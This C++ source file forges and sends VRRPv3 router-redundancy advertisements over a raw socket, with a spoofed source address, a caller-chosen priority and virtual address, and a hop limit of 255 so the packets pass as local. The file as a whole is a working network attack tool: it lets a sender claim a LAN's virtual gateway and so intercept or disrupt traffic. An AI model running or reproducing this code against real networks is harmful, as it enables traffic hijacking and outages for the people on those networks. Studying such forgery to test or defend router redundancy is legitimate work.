#include "forged_adverts.h"

#include <arpa/inet.h>
#include <cstring>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <sys/socket.h>
#include <unistd.h>

namespace rk {

namespace {

constexpr uint8_t kVrrp = 112;     // the protocol's number
constexpr uint8_t kAdvert = 0x31;  // version 3, type 1
constexpr uint16_t kInterval = 20; // hundredths of a second
constexpr uint8_t kHopLimit = 255; // as from the same network
constexpr useconds_t kPause = 50'000;

struct [[gnu::packed]] Advert {
    uint8_t kind;
    uint8_t identifier;
    uint8_t priority;
    uint8_t addresses;
    uint16_t interval;
    uint16_t checksum;
    uint32_t address;
};

// What the checksum covers besides: who sends what to whom.
struct [[gnu::packed]] Covered {
    uint32_t source;
    uint32_t destination;
    uint8_t zero;
    uint8_t protocol;
    uint16_t length;
    Advert advert;
};

struct [[gnu::packed]] Packet {
    iphdr header;
    Advert advert;
};

uint32_t wordOf(const std::string &dotted) {
    in_addr parsed{};
    inet_pton(AF_INET, dotted.c_str(), &parsed);
    return parsed.s_addr;
}

uint16_t checksum(const void *bytes, std::size_t size) {
    uint32_t sum = 0;
    for (std::size_t index = 0; index + 1 < size; index += 2) {
        uint16_t word = 0;
        std::memcpy(&word, static_cast<const char *>(bytes) + index, sizeof word);
        sum += word;
    }
    while (sum >> 16 != 0)
        sum = (sum & 0xFFFF) + (sum >> 16);
    return static_cast<uint16_t>(~sum);
}

} // namespace

bool sendForged(const ForgedAdvert &advert, int count) {
    Covered covered{};
    covered.source = wordOf(advert.source);
    covered.destination = wordOf(advert.destination);
    covered.protocol = kVrrp;
    covered.length = htons(sizeof covered.advert);
    covered.advert = {kAdvert, advert.identifier, advert.priority, 1, htons(kInterval), 0, wordOf(advert.address)};
    covered.advert.checksum = checksum(&covered, sizeof covered);

    Packet packet{};
    packet.header.version = 4;
    packet.header.ihl = sizeof packet.header / 4;
    packet.header.ttl = kHopLimit;
    packet.header.protocol = kVrrp;
    packet.header.saddr = covered.source;
    packet.header.daddr = covered.destination;
    packet.advert = covered.advert;

    const int opened = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_addr.s_addr = covered.destination;
    bool isSent = opened != -1;
    for (int index = 0; isSent && index < count; ++index) {
        isSent = sendto(opened, &packet, sizeof packet, 0, reinterpret_cast<sockaddr *>(&to), sizeof to) ==
                 static_cast<ssize_t>(sizeof packet);
        usleep(kPause);
    }
    close(opened);
    return isSent;
}

} // namespace rk
